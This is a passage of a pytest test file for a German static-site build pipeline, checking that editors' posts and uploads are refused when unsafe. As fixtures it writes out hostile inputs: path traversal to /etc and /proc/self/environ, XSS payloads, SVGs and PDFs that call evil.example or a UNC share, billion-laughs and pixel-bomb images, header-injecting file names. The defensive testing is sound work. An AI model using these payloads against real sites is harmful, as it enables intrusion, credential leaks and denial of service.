"""Editors' content is untrusted: every reference stays inside content/, HTML follows one policy,
uploads are checked. Each mistake is refused with path:line and nothing of it is published."""

from __future__ import annotations

from contextlib import chdir
from pathlib import Path

import pytest
from conftest import environment, refused_by_build_and_check, run_build
from PIL import Image

from pipeline.content_check import content_problems

HEAD = ("---\ntitle: Ein Beitrag von außen\ndate: 2023-08-01 10:00\nmeasure: meet-me\nsummary: Kurz.\n"
        "{extra}---\n\n")
BODY_LINE = 8  # first body line when no extra field is given


def post(good_content: Path, body: str, extra: str = "", name: str = "2023-08-01-von-aussen.md") -> Path:
    path = good_content / "posts" / name
    path.write_text(HEAD.format(extra=extra) + body + "\n", encoding="utf-8")
    return path


def refused(tmp_path: Path, content: Path, line: int, words: str,
            name: str = "2023-08-01-von-aussen.md") -> str:
    """Build and check both refuse with ``words`` at ``line`` of the post; nothing was published."""
    run = run_build(tmp_path, content, tmp_path / "output")
    expected = f"content/posts/{name}:{line}: "
    rows = [row for row in run.stderr.splitlines() if row.startswith(expected) and words in row]
    assert run.code == 1 and rows, run.stderr
    assert not (tmp_path / "output").exists()
    # Nothing else reaches the editor's screen: no English Pelican line, no path of the machine.
    stray = [row for row in run.stderr.splitlines()
             if not row.startswith(("content/", "Build abgebrochen"))]
    assert stray == [] and str(tmp_path) not in run.stderr, run.stderr
    with chdir(tmp_path):  # paths in the problems are relative to the folder
        checked = [str(p) for p in content_problems(str(content))]
    assert any(row.startswith(expected) and words in row for row in checked)
    return rows[0]


@pytest.mark.parametrize("body", [
    "[Anhang]({attach}../../../../proc/self/environ)",
    "[Datei]({static}/../../etc/hostname)",
    "[Beitrag]({filename}../../../etc/hostname)",
    "[Verweis][r]\n\n[r]: |static|../../etc/hostname",
    '<a href="{attach}../../etc/hostname">Datei</a>',
    # The renderer writes Pelican's braces percent-encoded and the build restores them: the
    # encoded form an editor types is the same link.
    "[Datei](%7Bstatic%7D/../../etc/hostname)",
    "![Bild](%7battach%7d../../etc/hostname.png)",
])
def test_links_that_leave_the_content_folder_are_refused(body: str, tmp_path: Path,
                                                          good_content: Path) -> None:
    post(good_content, body)
    line = BODY_LINE + body.count("\n")
    refused(tmp_path, good_content, line, "zeigt aus dem Inhaltsordner heraus")


def test_a_lead_image_outside_the_content_folder_is_refused(tmp_path: Path, good_content: Path) -> None:
    post(good_content, "Text.", extra="image: ../../../etc/hostname\nimage_alt: Ein Bild\n")
    refused(tmp_path, good_content, 6, "Bildpfad „../../../etc/hostname“ zeigt aus dem Inhaltsordner heraus")


def test_a_symlink_in_the_content_folder_is_refused_once_at_the_link(tmp_path: Path,
                                                                     good_content: Path) -> None:
    # Linked, used as a lead image, or a folder on the way: the link is the one cause, said once
    # at the link itself (the post pointing at it is not a second message).
    (good_content / "images" / "geheim.svg").symlink_to("/etc/hostname")
    (good_content / "images" / "ordner").symlink_to("/etc")
    (good_content / "posts" / "auch.svg").symlink_to("/etc/hostname")
    post(good_content, "![Bild]({static}/images/geheim.svg) und [Datei]({static}/images/ordner/hostname)",
         extra="image: posts/auch.svg\nimage_alt: Ein Bild\n")
    run, checked = refused_by_build_and_check(
        tmp_path, good_content, "content/images/geheim.svg:1: Datei ist ein Verweis (Symlink)")
    for said in (run.stderr.splitlines(), checked):
        rows = sorted(row.split(" — ")[0] for row in said if row.startswith("content/"))
        links = ("images/geheim.svg", "images/ordner", "posts/auch.svg")
        assert rows == [f"content/{name}:1: Datei ist ein Verweis (Symlink) auf eine Datei außerhalb des "
                        "Inhaltsordners" for name in links], said


@pytest.mark.parametrize(("body", "words"), [
    ("<script>fetch('/admin/')</script>", "<script> ist nicht erlaubt"),
    ("<style>body{display:none}</style>", "<style> ist nicht erlaubt"),
    ('<iframe src="https://video.example/embed/1"></iframe>', "<iframe> ist nicht erlaubt"),
    ('<object data="x.swf"></object>', "<object> ist nicht erlaubt"),
    ('<embed src="x.swf">', "<embed> ist nicht erlaubt"),
    ('<form action="https://evil.example/"><input name="pw"></form>', "<form> ist nicht erlaubt"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta> ist nicht erlaubt"),
    ('<base href="https://evil.example/">', "<base> ist nicht erlaubt"),
    ('<link rel="stylesheet" href="https://cdn.example/x.css">', "<link> ist nicht erlaubt"),
    ('<p onmouseover="alert(1)">Text</p>', "„onmouseover“ ist nicht erlaubt"),
    ('<a href="jav&#x61;script:alert(1)">Klick</a>', "in <a href> ist nicht erlaubt"),
    ("[Klick](javascript:alert(1))", "Link-Adresse „javascript:alert(1“ ist nicht erlaubt"),
    ("[Klick](vbscript:msgbox)", "Link-Adresse „vbscript:msgbox“ ist nicht erlaubt"),
    ("[Datei](data:text/html;base64,PHNjcmlwdD4=)", "ist nicht erlaubt"),
    ("![Zähler](https://tracker.example/pixel.gif)", "lädt von einem fremden Server"),
    ('<img src="//cdn.example/bild.png" alt="Bild">', "lädt „//cdn.example/bild.png“ von einem fremden"),
    ('<video src="https://video.example/a.mp4" controls></video>', "<video> lädt"),
    ('<audio src="https://radio.example/a.mp3" controls></audio>', "<audio> lädt"),
    # What a browser reads as another host although no "//" is written: "\\" counts as "/", tabs
    # and line breaks inside an address are dropped.
    ("![Zähler](/\\tracker.example/pixel.gif)", "lädt von einem fremden Server"),
    ('<img src="https:\\\\tracker.example\\p.gif" alt="Bild">', "von einem fremden Server"),
    ('<img src="/&#9;/tracker.example/t.gif" alt="Bild">', "von einem fremden Server"),
    ('<img src="{static}/images/treffen.svg" srcset="https:\\\\cdn.example\\s.png 2x" alt="Bild">',
     "von einem fremden Server"),
])
def test_html_an_editor_should_know_about_is_refused_at_its_line(body: str, words: str, tmp_path: Path,
                                                                 good_content: Path) -> None:
    post(good_content, "Erster Absatz.\n\n" + body)
    refused(tmp_path, good_content, BODY_LINE + 2, words)


def test_code_examples_may_show_html(tmp_path: Path, good_content: Path) -> None:
    post(good_content, "So sieht ein Skript aus: `<script>`\n\n```html\n<iframe src=\"https://x\"></iframe>\n```")
    run = run_build(tmp_path, good_content, tmp_path / "output")
    assert run.code == 0, run.stderr
    page = next((tmp_path / "output" / "aktuelles" / "2023").glob("von-aussen/index.html"))
    assert "&lt;script&gt;" in page.read_text(encoding="utf-8")


def test_what_the_sanitiser_would_remove_is_refused_at_its_line(tmp_path: Path, good_content: Path) -> None:
    # The build never drops an editor's content silently: an element, attribute, address scheme
    # or comment outside the allowlist is an error at its line (the sanitiser stays the backstop).
    post(good_content, '<details><summary>Mehr dazu</summary>Offene Fragen.</details>\n\n'
                       '<p style="position:fixed;top:0">Überlagert</p>\n\n<marquee>Laufschrift</marquee>\n\n'
                       '<img src="{static}/images/treffen.svg" alt="Treffen" data-x="1">\n\n'
                       '[Chat](irc://chat.example/raum) und <!-- intern: noch nicht freigegeben -->\n')
    expected = {10: "HTML-Attribut „style“ an <p>", 12: "HTML-Element <marquee>",
                14: "HTML-Attribut „data-x“ an <img>", 16: "Link-Adresse „irc://chat.example/raum“"}
    name = "content/posts/2023-08-01-von-aussen.md"
    run = run_build(tmp_path, good_content, tmp_path / "output")
    assert run.code == 1 and not (tmp_path / "output").exists(), run.stderr
    for line, words in expected.items():
        assert any(row.startswith(f"{name}:{line}: {words}") for row in run.stderr.splitlines()), run.stderr
    assert f"{name}:16: HTML-Kommentar wird nicht veröffentlicht" in run.stderr
    assert "Build abgebrochen (5 Probleme)" in run.stderr and "summary" not in run.stderr


def write_svg(content: Path, name: str, inner: str) -> None:
    (content / "images" / name).write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{inner}</svg>',
        encoding="utf-8")


@pytest.mark.parametrize(("inner", "words"), [
    ("<script>alert(document.domain)</script>", "SVG enthält ein Skript"),
    ('<rect width="1" height="1" onload="alert(1)"/>', "Skript-Attribut „onload“"),
    ("<foreignObject><p>HTML</p></foreignObject>", "foreignObject"),
    ('<image href="https://tracker.example/p.png"/>', "externen Verweis „https://tracker.example/p.png“"),
    ('<use xlink:href="https://evil.example/s.svg#a"/>', "externen Verweis"),
    ("<style>@import url(https://evil.example/a.css);</style>", "externen Verweis im Stil"),
    ('<a><set attributeName="href" to="javascript:alert(1)"/><text>Klick</text></a>',
     "Animation, die „href“ setzt"),
    ('<image><animate attributeName="href" values="https://evil.example/e.png"/></image>',
     "Animation, die „href“ setzt"),
    ("<rect style=\"fill:red;background-image:image-set('https://evil.example/a.png' 1x)\"/>",
     "externen Verweis im Stil"),
    # CSS escapes and character references spell the same words; HTML inside an SVG is rendered.
    ('<rect style="fill:u\\72l(https://evil.example/x.svg#p)"/>', "externen Verweis im Stil"),
    ("<style>@imp&#111;rt 'https://evil.example/x.css';</style>", "externen Verweis im Stil"),
    ('<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/>',
     "HTML-Elemente"),
    # A presentation attribute is CSS too.
    ('<rect fill="u\\72l(https://evil.example/x.svg#p)"/>', "externen Verweis im Stil"),
    # A few kilobytes that make every visitor's browser draw ten billion elements.
    ('<g id="a0"><rect width="1" height="1"/></g>' + "".join(
        f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 11)),
     "verschachtelte <use>-Verweise"),
    ('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>', "auf sich selbst zurückführen"),
    # Where the drawing was made, in its XMP metadata, under any prefix.
    ('<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
     'xmlns:e="http://ns.adobe.com/exif/1.0/" e:GPSLatitude="49,47.6N"/></rdf:RDF></metadata>',
     "Standortdaten in den Metadaten"),
    ('<metadata><x xmlns:p="http://ns.adobe.com/photoshop/1.0/"><p:City>Würzburg</p:City></x></metadata>',
     "Standortdaten in den Metadaten"),
])
def test_an_svg_upload_with_script_or_external_references_is_refused(inner: str, words: str, tmp_path: Path,
                                                                     good_content: Path) -> None:
    write_svg(good_content, "hochgeladen.svg", inner)
    run = run_build(tmp_path, good_content, tmp_path / "output")
    rows = [row for row in run.stderr.splitlines() if row.startswith("content/images/hochgeladen.svg:1: ")]
    assert run.code == 1 and len(rows) == 1 and words in rows[0], run.stderr
    assert not (tmp_path / "output").exists()


@pytest.mark.parametrize(("svg", "words"), [
    # Entities that expand to 100 MB ("billion laughs"): the DTD is the cause, not what it breaks.
    ('<!DOCTYPE svg [<!ENTITY a "' + "a" * 100 + '">' + "".join(
        f'<!ENTITY {chr(98 + n)} "' + f"&{chr(97 + n)};" * 10 + '">' for n in range(5))
     + ']><svg xmlns="http://www.w3.org/2000/svg"><text>' + "&f;" * 10 + "</text></svg>",
     "SVG enthält eine DTD mit Entitäten"),
    ('<svg xmlns="http://www.w3.org/2000/svg">\n<rect width="1" height=1/></svg>',
     "SVG enthält kein gültiges XML (Fehler in Zeile 2, Zeichen 24)"),
])
def test_an_svg_that_is_no_plain_xml_is_one_message_in_german(svg: str, words: str, tmp_path: Path,
                                                              good_content: Path) -> None:
    (good_content / "images" / "kaputt.svg").write_text(svg, encoding="utf-8")
    run, checked = refused_by_build_and_check(tmp_path, good_content, f"content/images/kaputt.svg:1: {words}")
    for said in (run.stderr.splitlines(), checked):
        assert len([row for row in said if "kaputt.svg" in row]) == 1, said


def test_uploads_of_the_wrong_kind_size_or_with_a_location_are_refused(tmp_path: Path,
                                                                       good_content: Path) -> None:
    images = good_content / "images"
    Image.new("RGB", (4, 4)).save(images / "umbenannt.jpg", format="PNG")
    (images / "seite.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    with (images / "riesig.png").open("wb") as big:
        big.write(b"\x89PNG\r\n\x1a\n")
        big.truncate(6 * (1 << 20))
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (49.0, 47.0, 30.0), 3: "E", 4: (9.0, 55.0, 10.0)}
    Image.new("RGB", (4, 4)).save(images / "handyfoto.jpg", exif=exif)
    Image.new("RGB", (4, 4)).save(images / f"{'b' * 120}.png")  # names of its sizes would not fit
    # 62 bytes claiming 65535 × 65535 pixels (a header imagesize does not read).
    (images / "bombe.gif").write_bytes(b"GIF87a\xff\xff\xff\xff\x80\x00\x00" + bytes(6) + b",\x00\x00\x00\x00"
                                       b"\xff\xff\xff\xff@\x08\x1d\x00\x01\x08\x1cH\xb0\xa0\xc1\x83;")
    run = run_build(tmp_path, good_content, tmp_path / "output")
    assert run.code == 1
    for expected in (f"content/images/{'b' * 120}.png:1: Dateiname ist 124 Zeichen lang (höchstens 100)",
                     "content/images/bombe.gif:1: Bild hat 4295 Millionen Pixel (höchstens 50)",
                     "content/images/umbenannt.jpg:1: Inhalt passt nicht zur Endung „.jpg“",
                     "content/images/seite.html:1: Dateityp „.html“ ist nicht erlaubt",
                     "content/images/riesig.png:1: PNG-Bild ist 6.0 MB groß (höchstens 5 MB)",
                     "content/images/handyfoto.jpg:1: Foto enthält Standortdaten: GPS-Koordinaten (EXIF)"):
        assert expected in run.stderr, run.stderr


XMP_PLACE = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
             b'syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
             b'exif:GPSLatitude="49,47.5N" exif:GPSLongitude="9,55.8E"/></rdf:RDF></x:xmpmeta>')


def _with_iptc_city(photo: Path) -> None:
    """A JPEG whose IPTC-IIM block (APP13, as Photoshop and Lightroom write it) names a city."""
    Image.new("RGB", (4, 4), "red").save(photo, format="JPEG")
    dataset = b"\x1c\x02\x5a\x00\x09W\xc3\xbcrzburg"  # record 2, dataset 90: City
    block = b"Photoshop 3.0\x00" + b"8BIM\x04\x04\x00\x00" + len(dataset).to_bytes(4, "big") + dataset
    data = photo.read_bytes()
    photo.write_bytes(data[:2] + b"\xff\xed" + (len(block) + 2).to_bytes(2, "big") + block + data[2:])


def _with_png_text(photo: Path) -> None:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Software", "Bildbearbeitung")  # how it was made: fine
    info.add_itxt("Comment", "Aufgenommen am Würzburger Marktplatz", zip=True)
    Image.new("RGB", (4, 4), "red").save(photo, format="PNG", pnginfo=info)


@pytest.mark.parametrize(("name", "make", "words", "secret"), [
    ("xmp.jpg", lambda p: Image.new("RGB", (4, 4), "red").save(p, format="JPEG", xmp=XMP_PLACE),
     "GPS-Koordinaten oder einen Ort (XMP)", b"GPSLatitude"),
    ("xmp.webp", lambda p: Image.new("RGB", (4, 4), "red").save(p, format="WEBP", xmp=XMP_PLACE),
     "GPS-Koordinaten oder einen Ort (XMP)", b"GPSLatitude"),
    ("iptc.jpg", _with_iptc_city, "einen Ortsnamen (IPTC)", "Würzburg".encode()),
    ("text.png", _with_png_text, "Freitext („Comment“)", b"Comment"),
])
def test_a_location_in_any_metadata_block_is_refused_and_the_hook_removes_it(
        tmp_path: Path, good_content: Path, name: str, make, words: str, secret: bytes) -> None:
    from pipeline.strip_location import main as strip_location

    photo = good_content / "images" / name
    make(photo)
    refused_by_build_and_check(tmp_path, good_content,
                               f"content/images/{name}:1: Foto enthält Standortdaten: {words}")
    assert strip_location([str(photo)]) == 1
    assert secret not in photo.read_bytes()
    with Image.open(photo) as image:
        assert image.size == (4, 4)
    assert run_build(tmp_path, good_content, tmp_path / "output").code == 0


def test_a_photo_claiming_too_many_pixels_is_refused_before_it_is_decoded(tmp_path: Path,
                                                                          good_content: Path) -> None:
    # 1-bit and all white: a file of a few kilobytes that would need 200 million pixels decoded.
    Image.new("1", (20_000, 10_000), 1).save(good_content / "images" / "bombe.png")
    assert (good_content / "images" / "bombe.png").stat().st_size < 1 << 20
    run = run_build(tmp_path, good_content, tmp_path / "output")
    expected = "content/images/bombe.png:1: Bild hat 200 Millionen Pixel (höchstens 50)"
    assert run.code == 1 and expected in run.stderr, run.stderr
    with chdir(tmp_path):
        checked = [str(problem) for problem in content_problems(str(good_content))]
    assert any(row.startswith(expected) for row in checked), checked


def _animation_of_dots(path: Path, side: int, frames: int) -> None:
    """A GIF of ``frames`` frames of one pixel each on a ``side`` × ``side`` canvas: a few
    hundred bytes, and every frame is drawn on the whole canvas when it is decoded."""
    import struct

    data = bytearray(b"GIF89a" + struct.pack("<HH", side, side) + bytes([0xF0, 0, 0]) + b"\0\0\0\xff\xff\xff")
    data += b"\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"
    for number in range(frames):
        data += (b"\x21\xf9\x04\x04\x02\0\0\0\x2c" + struct.pack("<HHHH", number % side, 0, 1, 1)
                 + b"\0\x02\x02\x44\x01\0")
    path.write_bytes(bytes(data + b"\x3b"))


def test_an_animation_whose_frames_together_are_too_large_is_refused_undecoded(
        tmp_path: Path, good_content: Path) -> None:
    # 499 bytes: 20 frames on a 7000 × 7000 canvas took 55 s to write clean before.
    _animation_of_dots(good_content / "images" / "punkte.gif", 7000, 20)
    assert (good_content / "images" / "punkte.gif").stat().st_size < 1000
    expected = ("content/images/punkte.gif:1: Animation hat 20 Einzelbilder zu je 49,0 Millionen Pixel, "
                "zusammen 980 Millionen (höchstens 50)")
    run, _checked = refused_by_build_and_check(tmp_path, good_content, expected)
    assert sum("punkte.gif" in row for row in run.stderr.splitlines()) == 1, run.stderr


def test_an_animation_whose_frames_lie_beyond_its_screen_is_refused_undecoded(
        tmp_path: Path, good_content: Path) -> None:
    import struct

    # A 1 × 1 screen, and 1-pixel frames placed at (7000, 7000): a decoder grows the canvas to
    # 7001 × 7001 for each (100 frames: 3 min 26 s of build before).
    data = bytearray(b"GIF89a" + struct.pack("<HH", 1, 1) + bytes([0xF0, 0, 0]) + b"\0\0\0\xff\xff\xff")
    for number in range(100):
        place = (0, 0) if number == 0 else (7000, 7000)
        data += (b"\x21\xf9\x04\x04\x02\0\0\0\x2c" + struct.pack("<HHHH", *place, 1, 1)
                 + b"\0\x02\x02\x44\x01\0")
    (good_content / "images" / "weit.gif").write_bytes(bytes(data + b"\x3b"))
    refused_by_build_and_check(tmp_path, good_content, "content/images/weit.gif:1: Animation hat 100 "
                               "Einzelbilder zu je 49,0 Millionen Pixel")


def test_a_small_animation_is_published_with_every_frame(tmp_path: Path, good_content: Path) -> None:
    frames = [Image.new("RGB", (300, 200), (number * 6, 80, 160)) for number in range(40)]
    frames[0].save(good_content / "images" / "ablauf.gif", save_all=True, append_images=frames[1:],
                   duration=80, loop=0)
    run = run_build(tmp_path, good_content, tmp_path / "output")
    assert run.code == 0, run.stderr
    with Image.open(tmp_path / "output" / "images" / "ablauf.gif") as published:
        assert published.size == (300, 200) and published.n_frames == 40


def test_captions_are_published_only_as_plain_webvtt(tmp_path: Path, good_content: Path) -> None:
    videos = good_content / "videos"
    videos.mkdir()
    (videos / "gut.vtt").write_text("WEBVTT\n\n00:00.000 --> 00:02.000\n<v Anna>Hallo</v> und "
                                    "<i>willkommen</i>\n", encoding="utf-8")
    # A style that loads a picture from elsewhere (a player would ask that host), and markup that
    # is no WebVTT: refused at their lines; a file no player can read, at its first line.
    (videos / "stil.vtt").write_text("WEBVTT\n\nSTYLE\n::cue { background: url(https://t.example/p.png) }"
                                     "\n\n00:00.000 --> 00:02.000\nHallo\n", encoding="utf-8")
    (videos / "html.vtt").write_text("WEBVTT\n\n00:00.000 --> 00:02.000\nHallo\n\n00:02.000 --> "
                                     "00:03.000\n<img src=https://t.example/p.png> <script>x</script>\n",
                                     encoding="utf-8")
    (videos / "kaputt.vtt").write_text("WEBVTT\n\n00:00.000 -> 00:02.000\nHallo\n", encoding="utf-8")
    run, checked = refused_by_build_and_check(
        tmp_path, good_content, "content/videos/stil.vtt:3: Untertitel enthalten einen STYLE-Block")
    for said in (run.stderr.splitlines(), checked):
        mine = sorted(row.split(" (")[0].split(" — ")[0] for row in said if ".vtt:" in row)
        assert mine == ["content/videos/html.vtt:7: Untertitel enthalten das Element „<img>“, das es in "
                        "WebVTT nicht gibt",
                        "content/videos/kaputt.vtt:1: Untertitel enthalten keinen einzigen Untertitel",
                        "content/videos/stil.vtt:3: Untertitel enthalten einen STYLE-Block"], said


def test_a_sign_language_video_that_is_no_video_is_one_message(tmp_path: Path, good_content: Path) -> None:
    videos = good_content / "videos"
    videos.mkdir()
    (videos / "gebaerden.mp4").write_bytes(bytes(range(256)) * 8)
    (videos / "gebaerden.vtt").write_text("WEBVTT\n\n00:00.000 --> 00:01.000\nHallo\n", encoding="utf-8")
    programme = good_content / "programme.yml"
    programme.write_text(programme.read_text(encoding="utf-8").replace(
        "  videos: []\n", "  videos:\n    - title: Gebärden\n      file: videos/gebaerden.mp4\n"
        "      captions: videos/gebaerden.vtt\n      transcript: Hallo\n", 1), encoding="utf-8")
    expected = "content/videos/gebaerden.mp4:1: Inhalt passt nicht zur Endung „.mp4“ (kein MP4-Video)"
    run, checked = refused_by_build_and_check(tmp_path, good_content, expected, programme)
    for said in (run.stderr.splitlines(), checked):
        assert len([row for row in said if "gebaerden.mp4" in row]) == 1, said


def test_the_pre_commit_hook_removes_the_location_and_keeps_the_picture(tmp_path: Path) -> None:
    from pipeline.strip_location import main as strip_location

    exif = Image.Exif()
    exif[0x010F] = "Telefon"
    exif[0x8825] = {1: "N", 2: (49.0, 47.0, 30.0)}
    photo = tmp_path / "foto.jpg"
    Image.new("RGB", (4, 4), "red").save(photo, exif=exif)
    assert strip_location([str(photo)]) == 1  # changed: the commit stops so the file can be re-added
    with Image.open(photo) as image:
        assert not image.getexif().get_ifd(0x8825) and image.getexif()[0x010F] == "Telefon"
        assert image.size == (4, 4)
    assert strip_location([str(photo)]) == 0


def test_an_editorial_with_script_is_refused_at_its_line(tmp_path: Path, good_content: Path) -> None:
    folder = good_content / "newsletter"
    folder.mkdir()
    (folder / "2026-11-20.md").write_text("---\nsubject: Hallo\n---\n\nText\n\n<script>alert(1)</script>\n",
                                          encoding="utf-8")
    from pipeline.build import build
    with environment(None, tmp_path):
        result = build(Path(__file__).resolve().parent.parent / "pelicanconf.py", tmp_path / "output",
                       good_content, overrides={"NEWSLETTER_PREVIEW": {"since": "2000-01-01"}})
    assert not result.ok
    # Named as editors see every other file: relative to where the build runs.
    assert any(p.startswith("content/newsletter/2026-11-20.md:7: HTML-Element <script> ist nicht erlaubt")
               for p in result.problems), result.problems


def test_an_upload_whose_name_would_break_the_server_configuration_is_refused(
        tmp_path: Path, good_content: Path) -> None:
    # Git allows a line break in a file name; _headers names every SVG on a line of its own.
    name = "a\n/*\n  Refresh: 0; url=https:\\\\evil.example\\\n  X-Y: z.svg"
    folder = good_content / "images" / name.split("/")[0]
    folder.mkdir()
    (folder / name.split("/")[1]).write_bytes((good_content / "images" / "treffen.svg").read_bytes())
    (good_content / "images" / "Foto vom Treffen.svg").write_bytes(
        (good_content / "images" / "treffen.svg").read_bytes())
    run = run_build(tmp_path, good_content, tmp_path / "output")
    assert run.code == 1 and not (tmp_path / "output").exists()
    assert "Dateiname „a\\n“ enthält Zeichen, die in Adressen nicht gehen" in run.stderr, run.stderr
    assert ("content/images/Foto vom Treffen.svg:1: Dateiname „Foto vom Treffen.svg“ enthält Zeichen, "
            "die in Adressen nicht gehen (nur Buchstaben, Ziffern, „.“, „_“ und „-“) — benenne die Datei um, "
            "z. B. in „foto-vom-treffen.svg“") in run.stderr, run.stderr


def test_text_fields_are_one_line_and_hold_no_invisible_controls(tmp_path: Path, good_content: Path) -> None:
    # A block scalar ends in a line break: the slug is still "neu", a folder without it, and the
    # title's line break (which ends a line in a calendar or a mail header) is a space.
    post(good_content, "Text.", extra='slug: |\n  neu\nlang: "de\\n"\n').write_text(
        post(good_content, "Text.").read_text(encoding="utf-8").replace(
            "title: Ein Beitrag von außen", 'title: "Ein Beitrag\\r\\nvon außen"').replace(
            "summary: Kurz.", 'summary: "Kurz\\rBEGIN:VEVENT"\nslug: |\n  neu\nlang: "de\\n"'),
        encoding="utf-8")
    run = run_build(tmp_path, good_content, tmp_path / "output")
    assert run.code == 0, run.stderr
    page = (tmp_path / "output" / "aktuelles" / "2023" / "neu" / "index.html").read_text(encoding="utf-8")
    assert "<h1>Ein Beitrag von außen</h1>" in page and "Kurz BEGIN:VEVENT" in page
    assert 'lang="de"' in page

    post(good_content, "Text.", extra='author: "Redaktion\\0"\ntags: ["Beteiligung\\u202e"]\n')
    rows = [row for row in run_build(tmp_path, good_content, tmp_path / "output").stderr.splitlines()
            if "unsichtbares Steuerzeichen" in row]
    assert [row.split(": ", 1)[0] for row in rows] == ["content/posts/2023-08-01-von-aussen.md:6",
                                                        "content/posts/2023-08-01-von-aussen.md:7"], rows
    assert "U+0000" in rows[0] and "U+202E" in rows[1]


@pytest.mark.parametrize(("extra", "line", "words"), [
    ("tags: &a [x, x, x, x, x, x, x, x]\nauthors: [*a, *a, *a, *a]\n", 7,
     "Verweis mit „*“ auf einen Anker „&“) — schreibe die Werte aus"),
    ("author: &a Redaktion\nimage_alt: *a\n", 7,
     "Verweis mit „*“ auf einen Anker „&“) — schreibe die Werte aus"),
    ("status: draft\nnewsletter: false\nstatus: published\n", 8,
     "Feld „status“ steht ein zweites Mal da) — lösche eines davon"),
])
def test_yaml_anchors_and_keys_written_twice_are_refused(extra: str, line: int, words: str, tmp_path: Path,
                                                        good_content: Path) -> None:
    post(good_content, "Text.", extra=extra)
    refused(tmp_path, good_content, line, words)


def test_a_title_or_tag_without_letters_or_digits_is_refused(tmp_path: Path, good_content: Path) -> None:
    # Emoji only, in a file named by its date alone (the title gives the address): the post
    # would be the year's folder itself, the tag a page at /themen//.
    name = "2023-08-01.md"
    path = post(good_content, "Text.", extra='tags: ["😀", Beteiligung]\n', name=name)
    path.write_text(path.read_text(encoding="utf-8").replace("title: Ein Beitrag von außen",
                                                             'title: "😀🎉"'), encoding="utf-8")
    refused(tmp_path, good_content, 2, "aus dem Titel „😀🎉“ lässt sich keine Adresse bilden", name)
    refused(tmp_path, good_content, 6, "Schlagwort „😀“ ergibt keine Adresse", name)


def test_an_editorial_says_what_cannot_work_in_an_email_at_its_line(tmp_path: Path,
                                                                   good_content: Path) -> None:
    from pipeline.build import build
    folder = good_content / "newsletter"
    folder.mkdir()
    (folder / "2026-11-20.md").write_text(
        '---\nsubject: "Hallo\\r\\nBcc: alle@example.org"\npreheader: "Kurz\\u202e"\n---\n\n'
        "Mehr im [Impressum](/impressum/).\n\n![Logo]({static}/images/treffen.svg)\n\n"
        "Schreiben Sie uns: [E-Mail](mailto:redaktion@example.org), [Website](https://www.wuerzburg.de/).\n"
        "\n[Datenschutz][ds] gilt.\n\n[ds]: /datenschutz/\n",
        encoding="utf-8")
    with environment(None, tmp_path):
        result = build(Path(__file__).resolve().parent.parent / "pelicanconf.py", tmp_path / "output",
                       good_content, overrides={"NEWSLETTER_PREVIEW": {"since": "2000-01-01"}})
    assert not result.ok and not (tmp_path / "output").exists()
    found = [p.split(" — ")[0] for p in result.problems]
    # The editors' check says the same, before any issue carries the editorial.
    with environment(None, tmp_path):
        assert [str(p).split(" — ")[0] for p in content_problems(str(good_content))] == found
    assert found == [
        "content/newsletter/2026-11-20.md:3: Feld „preheader“ enthält ein unsichtbares Steuerzeichen U+202E",
        "content/newsletter/2026-11-20.md:6: Link „/impressum/“ führt in einer E-Mail ins Leere",
        "content/newsletter/2026-11-20.md:8: Dateiverweise ({static}, {filename}) gehen im Newsletter nicht",
        "content/newsletter/2026-11-20.md:14: Link „/datenschutz/“ führt in einer E-Mail ins Leere",
    ], result.problems


def test_a_pdf_upload_that_acts_on_its_own_is_refused(tmp_path: Path, good_content: Path) -> None:
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

    images = good_content / "images"
    plain = PdfWriter()
    plain.add_blank_page(200, 200)
    plain.write(images / "infoblatt.pdf")
    scripted = PdfWriter()
    scripted.add_blank_page(200, 200)
    scripted.add_open_action(JavaScript("app.launchURL('https://evil.example/');"))
    scripted.write(images / "formular.pdf")
    attached = PdfWriter()
    attached.add_blank_page(200, 200)
    attached.add_attachment("rechnung.exe", b"MZ")
    attached.write(images / "anhang.pdf")
    # Opened, it would fetch a file from another host (\\host\share: Windows sends credentials).
    remote = PdfWriter()
    remote.add_blank_page(200, 200)
    remote._root_object[NameObject("/OpenAction")] = remote._add_object(DictionaryObject({
        NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject(r"\\evil.example\s\x.pdf"),
        NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")])}))
    remote.write(images / "verweis.pdf")
    run = run_build(tmp_path, good_content, tmp_path / "output")
    rows = [row for row in run.stderr.splitlines() if row.startswith("content/images/")]
    assert run.code == 1 and len(rows) == 3, run.stderr
    assert "content/images/verweis.pdf:1: PDF enthält einen Sprung in eine andere Datei" in run.stderr
    assert "content/images/formular.pdf:1: PDF enthält JavaScript" in run.stderr
    assert "content/images/anhang.pdf:1: PDF enthält eingebettete Dateien" in run.stderr


def test_an_html_page_saved_as_svg_is_refused(tmp_path: Path, good_content: Path) -> None:
    # Served from the site's own address it would be a phishing form or an open redirect.
    (good_content / "images" / "anmeldung.svg").write_text(
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="refresh" '
        'content="1;url=https://evil.example/"/></head><body><form action="https://evil.example/">'
        '<input type="password" name="pw"/></form></body></html>', encoding="utf-8")
    run = run_build(tmp_path, good_content, tmp_path / "output")
    rows = [row for row in run.stderr.splitlines() if row.startswith("content/images/anmeldung.svg:1: ")]
    assert run.code == 1 and len(rows) == 1, run.stderr
    assert "keine Grafik, sondern ein Dokument mit <html>" in rows[0]


def build_with_editorial(tmp_path: Path, content: Path, text: str):
    from pipeline.build import build
    folder = content / "newsletter"
